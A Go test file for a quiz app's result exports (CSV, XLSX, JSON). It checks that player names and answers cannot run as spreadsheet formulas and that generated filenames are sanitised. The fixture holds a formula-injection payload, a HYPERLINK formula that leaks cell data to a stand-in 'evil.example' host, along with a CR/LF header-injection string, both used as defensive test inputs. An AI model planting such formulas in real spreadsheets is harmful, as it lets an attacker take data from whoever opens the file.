package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/huddle-live/huddle/internal/session"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ with the current output")

// Texts a spreadsheet would run as formulas if they reached it unchanged.
const (
	evilName   = `=HYPERLINK("http://evil.example/?leak="&A1,"Приз")`
	phone      = "+79990001122"
	evilAnswer = "-2+3"
)

// fixture is a small finished room: two teams, three players (one Cyrillic,
// one with a formula for a name whom the host kicked), a single-choice and a
// text question.
func fixture() *session.Results {
	at := time.Date(2026, 3, 14, 18, 30, 0, 0, time.UTC)
	return &session.Results{
		Room: session.RoomInfo{
			ID: "r-01", Code: "KX7Q", Title: "Пятничный квиз", Scenario: "friday-quiz",
			Lang: "ru", TeamMode: "average", Created: at, Finished: true,
		},
		Teams: []session.TeamResult{
			{Rank: 1, ID: "t1", Name: "Совы", Players: 1, Points: 1000, Correct: 1},
			{Rank: 2, ID: "t2", Name: "Owls & Co", Players: 1, Points: 800, Correct: 1},
		},
		Players: []session.PlayerResult{
			{Rank: 1, ID: "p1", Name: "Анна Петрова", Team: "Совы", Points: 1000, Correct: 1, Joined: at.Add(time.Minute)},
			{Rank: 2, ID: "p3", Name: "Bob", Team: "Owls & Co", Points: 800, Correct: 1, Joined: at.Add(2 * time.Minute)},
			{ID: "p2", Name: evilName, Team: "Совы", Joined: at.Add(3 * time.Minute), Kicked: true},
		},
		Questions: []session.QuestionResult{
			{
				Stage: "quiz", ID: "capital", Number: 1, Type: "single", Text: "Столица Австралии?",
				Correct: "Канберра", OpenedAt: at.Add(5 * time.Minute), ClosedBy: "all",
				Answers: []session.AnswerResult{
					{Player: "p1", Name: "Анна Петрова", Team: "Совы", Answer: "Канберра", Seconds: 3.2, Correct: true, Fraction: 1, Points: 1000, Counted: true},
					{Player: "p3", Name: "Bob", Team: "Owls & Co", Answer: "Сидней", Seconds: 4.75, Points: 0, Counted: true},
					{Player: "p2", Name: evilName, Team: "Совы", Answer: "Канберра", Seconds: 9.0004, Correct: true, Fraction: 1, Points: 600, Counted: true},
				},
			},
			{
				Stage: "quiz", ID: "emergency", Number: 2, Type: "text",
				Text:    "Emergency number in Russia? Write it \"in digits\", no spaces\n(one line)",
				Correct: "112", OpenedAt: at.Add(7 * time.Minute), ClosedBy: "time",
				Answers: []session.AnswerResult{
					{Player: "p3", Name: "Bob", Team: "Owls & Co", Answer: "112", Seconds: 2.5, Correct: true, Fraction: 1, Points: 800, Counted: true},
					{Player: "p1", Name: "Анна Петрова", Team: "Совы", Answer: phone, Seconds: 12.3, Points: 0, Counted: true},
					{Player: "p2", Name: evilName, Team: "Совы", Answer: evilAnswer, Seconds: 19.999, Points: 0, Counted: false},
				},
			},
		},
	}
}

// golden compares got with testdata/<name>.golden, or rewrites the file
// under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := 0; i < max(len(gl), len(wl)); i++ {
			var g, w string
			if i < len(gl) {
				g = gl[i]
			}
			if i < len(wl) {
				w = wl[i]
			}
			if g != w {
				t.Fatalf("%s differs from golden at line %d:\n got: %q\nwant: %q\n(run go test -update if the change is intended)", path, i+1, g, w)
			}
		}
		t.Fatalf("%s differs from golden", path)
	}
}

func TestCSV(t *testing.T) {
	for _, lang := range []string{"ru", "en"} {
		t.Run(lang, func(t *testing.T) {
			var buf bytes.Buffer
			if err := CSV(&buf, fixture(), lang); err != nil {
				t.Fatal(err)
			}
			golden(t, "answers."+lang+".csv", buf.Bytes())

			body, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF"))
			if !ok {
				t.Fatal("CSV does not start with a UTF-8 BOM")
			}
			records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(records) != 1+6 {
				t.Fatalf("got %d records, want a header and 6 answers", len(records))
			}
			const colName, colAnswer, colSeconds, colPoints = 4, 6, 7, 9
			r := records[3] // the formula-named player's first answer
			if r[colName] != "'"+evilName {
				t.Errorf("player name = %q, want it prefixed with '", r[colName])
			}
			if r[colSeconds] != "9" || r[colPoints] != "600" {
				t.Errorf("seconds, points = %q, %q; want plain numbers 9, 600", r[colSeconds], r[colPoints])
			}
			if got := records[5][colAnswer]; got != "'"+phone {
				t.Errorf("phone answer = %q, want it prefixed with '", got)
			}
			if got := records[6][colAnswer]; got != "'"+evilAnswer {
				t.Errorf("answer = %q, want it prefixed with '", got)
			}
			for i, rec := range records {
				for j, f := range rec {
					if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
						t.Errorf("record %d field %d = %q starts a formula", i, j, f)
					}
				}
			}
		})
	}
}

// sheet is one worksheet's cell values, as a golden file holds them.
type sheet struct {
	Name string
	Rows [][]string
}

// sheetsJSON renders sheets as a JSON array of {"sheet", "rows"} objects
// with one row a line, so that a golden diff reads like the spreadsheet.
func sheetsJSON(t *testing.T, sheets []sheet) []byte {
	t.Helper()
	marshal := func(v any) string {
		var b bytes.Buffer
		enc := json.NewEncoder(&b)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(v); err != nil {
			t.Fatal(err)
		}
		return strings.TrimSuffix(b.String(), "\n")
	}
	var b strings.Builder
	b.WriteString("[\n")
	for i, s := range sheets {
		b.WriteString("  {\"sheet\": " + marshal(s.Name) + ", \"rows\": [\n")
		for j, row := range s.Rows {
			b.WriteString("    " + marshal(row))
			if j < len(s.Rows)-1 {
				b.WriteString(",")
			}
			b.WriteString("\n")
		}
		b.WriteString("  ]}")
		if i < len(sheets)-1 {
			b.WriteString(",")
		}
		b.WriteString("\n")
	}
	b.WriteString("]\n")
	return []byte(b.String())
}

func TestXLSX(t *testing.T) {
	for _, lang := range []string{"ru", "en"} {
		t.Run(lang, func(t *testing.T) {
			var buf bytes.Buffer
			if err := XLSX(&buf, fixture(), lang); err != nil {
				t.Fatal(err)
			}
			f, err := excelize.OpenReader(&buf)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()

			var sheets []sheet
			for _, name := range f.GetSheetList() {
				rows, err := f.GetRows(name)
				if err != nil {
					t.Fatal(err)
				}
				sheets = append(sheets, sheet{name, rows})
			}
			golden(t, "xlsx."+lang+".json", sheetsJSON(t, sheets))

			l := labelsFor(lang)
			players, answers := l.playersSheet, l.answersSheet
			for _, c := range []struct{ sheet, cell, want string }{
				{players, "B4", "'" + evilName},
				{answers, "E4", "'" + evilName},
				{answers, "G6", "'" + phone},
				{answers, "G7", "'" + evilAnswer},
			} {
				if v, _ := f.GetCellValue(c.sheet, c.cell); v != c.want {
					t.Errorf("%s!%s = %q, want %q", c.sheet, c.cell, v, c.want)
				}
			}

			// Text is stored as strings, never formulas; numbers as numbers.
			numeric := map[string][]bool{
				l.teamsSheet:     {true, false, true, true, true},
				l.playersSheet:   {true, false, false, true, true},
				l.questionsSheet: {true, false, false, false, true, true, false},
				l.answersSheet:   {true, false, false, false, false, false, false, true, false, true, false},
			}
			for _, s := range sheets {
				for r, row := range s.Rows {
					for c, v := range row {
						ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
						if formula, _ := f.GetCellFormula(s.Name, ref); formula != "" {
							t.Errorf("%s!%s holds formula %q", s.Name, ref, formula)
						}
						if v == "" {
							continue
						}
						typ, err := f.GetCellType(s.Name, ref)
						if err != nil {
							t.Fatal(err)
						}
						isNum := typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset
						if want := r > 0 && numeric[s.Name][c]; isNum != want {
							t.Errorf("%s!%s = %q: number %v, want %v", s.Name, ref, v, isNum, want)
						}
					}
				}
				panes, err := f.GetPanes(s.Name)
				if err != nil || !panes.Freeze || panes.YSplit != 1 {
					t.Errorf("%s: header not frozen: %+v, %v", s.Name, panes, err)
				}
				id, err := f.GetCellStyle(s.Name, "A1")
				if err != nil {
					t.Fatal(err)
				}
				if st, err := f.GetStyle(id); err != nil || st.Font == nil || !st.Font.Bold {
					t.Errorf("%s: header is not bold", s.Name)
				}
			}
		})
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, fixture()); err != nil {
		t.Fatal(err)
	}
	golden(t, "results.json", buf.Bytes())

	var back session.Results
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(&back, fixture()) {
		t.Error("JSON does not round-trip to the same Results")
	}
}

func TestFilename(t *testing.T) {
	day := time.Date(2026, 11, 27, 23, 59, 0, 0, time.UTC)
	for _, c := range []struct {
		title     string
		at        time.Time
		ext       string
		utf, asci string
	}{
		{"Эффективное партнёрство: рекомендации", day, "docx",
			"Эффективное партнёрство - рекомендации 2026-11-27.docx", "Effektivnoe partnerstvo - rekomendatsii 2026-11-27.docx"},
		{"Квиз «Что такое НКО?»", day, ".XLSX", "Квиз «Что такое НКО» 2026-11-27.xlsx", "Kviz Chto takoe NKO 2026-11-27.xlsx"},
		{"Board \"x\" / y", day, "md", "Board x - y 2026-11-27.md", "Board x - y 2026-11-27.md"},
		{"", time.Time{}, "csv", "huddle.csv", "huddle.csv"},
		{"   ", day, "csv", "huddle 2026-11-27.csv", "huddle 2026-11-27.csv"},
		{"ab\r\nContent-Type: x", day, "c\"sv", "ab Content-Type - x 2026-11-27.c-sv", "ab Content-Type - x 2026-11-27.c-sv"},
		{"日本語", day, "json", "日本語 2026-11-27.json", "huddle 2026-11-27.json"},
		{"..:Итоги", day, "csv", "Итоги 2026-11-27.csv", "Itogi 2026-11-27.csv"},
		{strings.Repeat("Длинное название ", 10), day, "csv",
			"Длинное название Длинное название Длинное название Длинное название Длинное назв 2026-11-27.csv",
			"Dlinnoe nazvanie Dlinnoe nazvanie Dlinnoe nazvanie Dlinnoe nazvanie Dlinnoe nazv 2026-11-27.csv"},
	} {
		got := Filename(c.title, c.at, c.ext)
		if got.UTF8 != c.utf || got.ASCII != c.asci {
			t.Errorf("Filename(%q, %q) = %q / %q, want %q / %q", c.title, c.ext, got.UTF8, got.ASCII, c.utf, c.asci)
		}
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"Анна":         "Анна",
		"a=b":          "a=b",
		"=1+1":         "'=1+1",
		"+79990001122": "'+79990001122",
		"-2+3":         "'-2+3",
		"@SUM(A1)":     "'@SUM(A1)",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r'=1", // a reader that splits at a CR starts a field at "=1" too
		"-":            "'-",
		"-3.5":         "-3.5", // a plain negative number cannot be a formula
		"-12":          "-12",
		"-3.":          "'-3.",
		"-.5":          "'-.5",
		"-1e5":         "'-1e5",
		"-1.2.3":       "'-1.2.3",
		// Where a reader splitting at ';' or a line break starts a field.
		"x;=1+1":      "x;'=1+1",
		"x;y":         "x;y",
		"x; =1+1":     "x; =1+1", // a leading space is text to Excel and LibreOffice
		`x;"=1+1`:     `x;'"=1+1`,
		`x;"";+1`:     `x;"";'+1`,
		"a;;-1;@b":    "a;;'-1;'@b",
		"=1;=2":       "'=1;'=2",
		"x\n=1\r\n+2": "x\n'=1\r\n'+2",
		"x;":          "x;",
		"x,=1":        "x,=1", // quoted, a comma never splits a cell
	} {
		if got := neutralise(in); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestNilResults(t *testing.T) {
	var buf bytes.Buffer
	if CSV(&buf, nil, "ru") == nil || XLSX(&buf, nil, "ru") == nil || JSON(&buf, nil) == nil {
		t.Error("nil results: want an error from every export")
	}
}
